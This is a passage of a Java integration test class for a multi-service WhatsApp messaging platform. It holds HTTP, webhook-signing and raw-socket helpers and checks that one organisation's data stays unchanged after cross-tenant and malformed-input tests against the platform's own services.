            } else if (field.getValue().isNumber() || field.getValue().isBoolean()) {
                wrong.put(field.getKey(), "não é número");
            } else {
                wrong.put(field.getKey(), 42);
            }
        });
        return wrong;
    }

    private static JsonNode restring(JsonNode node, String text) {
        if (node.isTextual()) {
            return JSON.getNodeFactory().textNode(text);
        }
        if (node.isObject()) {
            ObjectNode copy = JSON.createObjectNode();
            node.fields().forEachRemaining(f -> copy.set(f.getKey(), restring(f.getValue(), text)));
            return copy;
        }
        if (node.isArray()) {
            var copy = JSON.createArrayNode();
            node.forEach(item -> copy.add(restring(item, text)));
            return copy;
        }
        return node;
    }

    @Test
    @Order(6)
    void the_other_organisations_data_is_unchanged_after_every_attack() {
        Map<String, String> after = snapshotOfB();
        assertThat(after).isEqualTo(B_BEFORE);
        assertThat(json(call("whatsapp-gateway", "GET", "/api/conversations/" + B.get("conversation") + "/messages", adminB, null), 200)
                .toString()).contains(MARKER);
        assertThat(json(call("flow-service", "GET", "/api/automations/" + B.get("automation") + "/runs/" + B.get("run"), adminB, null), 200)
                .path("id").asText()).isEqualTo(B.get("run"));
        assertThat(json(call("auth-service", "GET", "/api/users", adminB, null), 200).toString()).contains(B.get("user"));
    }

    // ---------------------------------------------------------------------------------------------- HTTP

    private static Answer send(ApiSurface.Operation op, String token, Function<String, String> ids, ApiSurface surface) {
        if (op.bodyType() != null && op.bodyType().startsWith("multipart/")) {
            String form = "--ft9\r\nContent-Disposition: form-data; name=\"file\"; filename=\"horarios.txt\"\r\n"
                    + "Content-Type: text/plain\r\n\r\nAtendemos das 8h às 18h.\r\n--ft9--\r\n";
            return raw(op.service(), op.method().toUpperCase(), op.path(ids), token, form.getBytes(StandardCharsets.UTF_8),
                    Map.of("Content-Type", "multipart/form-data; boundary=ft9"));
        }
        String body = null;
        if (op.hasJsonBody()) {
            body = surface.sample(op.bodySchema(), kind -> ids.apply("body"), "texto", 0).toString();
        } else if (op.bodyType() != null) {
            body = "{}";
        }
        return call(op.service(), op.method().toUpperCase(), op.path(ids), token, body);
    }

    private static Answer call(String service, String method, String path, String token, String body) {
        return call(service, method, path, token, body, Map.of());
    }

    private static Answer call(String service, String method, String path, String token, String body, Map<String, String> headers) {
        return raw(service, method, path, token, body == null ? null : body.getBytes(StandardCharsets.UTF_8), headers);
    }

    private static Answer raw(String service, String method, String path, String token, byte[] body, Map<String, String> headers) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(uri(service, path))).timeout(Duration.ofSeconds(30))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        if (body != null && !headers.containsKey("Content-Type")) {
            request.header("Content-Type", "application/json");
        }
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        headers.forEach(request::header);
        try {
            HttpResponse<java.io.InputStream> answer = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofInputStream());
            String type = answer.headers().firstValue("Content-Type").orElse(null);
            return new Answer(answer.statusCode(), type, type != null && type.startsWith("text/event-stream")
                    ? firstSecondOf(answer.body()) : new String(answer.body().readAllBytes(), StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(method + " " + path, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    /** What a stream of server-sent events says in its first second: it never ends by itself. */
    private static String firstSecondOf(java.io.InputStream stream) throws IOException {
        java.io.ByteArrayOutputStream seen = new java.io.ByteArrayOutputStream();
        Thread reader = new Thread(() -> {
            byte[] buffer = new byte[8192];
            try {
                for (int n = stream.read(buffer); n >= 0; n = stream.read(buffer)) {
                    synchronized (seen) {
                        seen.write(buffer, 0, n);
                    }
                }
            } catch (IOException closed) {
                // closed below, after the second
            }
        });
        reader.setDaemon(true);
        reader.start();
        try {
            reader.join(1000);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        stream.close();
        synchronized (seen) {
            return seen.toString(StandardCharsets.UTF_8);
        }
    }

    /** Sends only the head of a request that declares a body of {@code length} bytes, and reads the answer. */
    private static Answer declaredOnly(String service, String path, String token, long length) {
        URI target = URI.create(uri(service, path));
        try (java.net.Socket socket = new java.net.Socket(target.getHost(), target.getPort())) {
            socket.setSoTimeout(15_000);
            String head = "POST " + path + " HTTP/1.1\r\nHost: " + target.getHost() + ":" + target.getPort()
                    + "\r\nAuthorization: Bearer " + token + "\r\nContent-Type: application/json\r\nContent-Length: " + length
                    + "\r\n\r\n";
            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            java.io.BufferedReader in = new java.io.BufferedReader(new java.io.InputStreamReader(socket.getInputStream(),
                    StandardCharsets.UTF_8));
            int status = Integer.parseInt(in.readLine().split(" ")[1]);
            String contentType = null;
            int contentLength = 0;
            for (String line = in.readLine(); line != null && !line.isEmpty(); line = in.readLine()) {
                String lower = line.toLowerCase(java.util.Locale.ROOT);
                if (lower.startsWith("content-type:")) {
                    contentType = line.substring(13).strip();
                } else if (lower.startsWith("content-length:")) {
                    contentLength = Integer.parseInt(line.substring(15).strip());
                }
            }
            char[] body = new char[contentLength];
            int read = 0;
            while (read < contentLength) {
                int n = in.read(body, read, contentLength - read);
                if (n < 0) {
                    break;
                }
                read += n;
            }
            return new Answer(status, contentType, new String(body, 0, read));
        } catch (IOException e) {
            throw new UncheckedIOException("the oversized request to " + path, e);
        }
    }

    private static JsonNode json(Answer a, int expected) {
        assertThat(a.status()).as(abbreviate(a.body())).isEqualTo(expected);
        try {
            return JSON.readTree(a.body());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Answer metaWebhook(String body, String secret) {
        Map<String, String> headers = secret == null ? Map.of()
                : Map.of("X-Hub-Signature-256", new HmacSignature(secret).sign(body.getBytes(StandardCharsets.UTF_8)));
        return call("whatsapp-gateway", "POST", "/webhooks/whatsapp", null, body, headers);
    }

    private static String message(String phoneNumberId, String waId, String wamid, String text) {
        return """
                {"object":"whatsapp_business_account","entry":[{"id":"102290129340398","changes":[{"field":"messages","value":{
                "messaging_product":"whatsapp","metadata":{"display_phone_number":"558132220000","phone_number_id":"%s"},
                "contacts":[{"profile":{"name":"Paciente %s"},"wa_id":"%s"}],
                "messages":[{"from":"%s","id":"%s","timestamp":"%d","type":"text","text":{"body":"%s"}}]}}]}]}"""
                .formatted(phoneNumberId, text, waId, waId, wamid, OffsetDateTime.now().toEpochSecond(), text);
    }

    private static byte[] bytes(JsonNode node) {
        return node.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        int length = 0;
        for (byte[] p : parts) {
            length += p.length;
        }
        byte[] all = new byte[length];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, all, at, p.length);
            at += p.length;
        }
        return all;
    }

    private static String abbreviate(String text) {
        return text == null ? "" : text.length() > 300 ? text.substring(0, 300) + "..." : text;
    }
}
